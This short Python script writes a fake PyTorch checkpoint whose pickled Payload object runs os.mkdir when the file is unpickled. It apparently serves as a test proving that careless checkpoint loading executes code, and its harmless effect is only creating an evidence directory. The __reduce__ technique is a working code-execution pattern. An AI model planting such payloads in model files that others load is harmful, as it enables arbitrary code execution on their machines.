"""Writes a file in place of a checkpoint that executes code if it is unpickled without care.

write_payload.py FILE EVIDENCE: the code creates EVIDENCE.
"""

import os
import sys
from typing import Any

import torch

path, evidence = sys.argv[1:]


class Payload:
    def __reduce__(self) -> Any:
        return os.mkdir, (evidence,)


torch.save({"model": Payload()}, path)
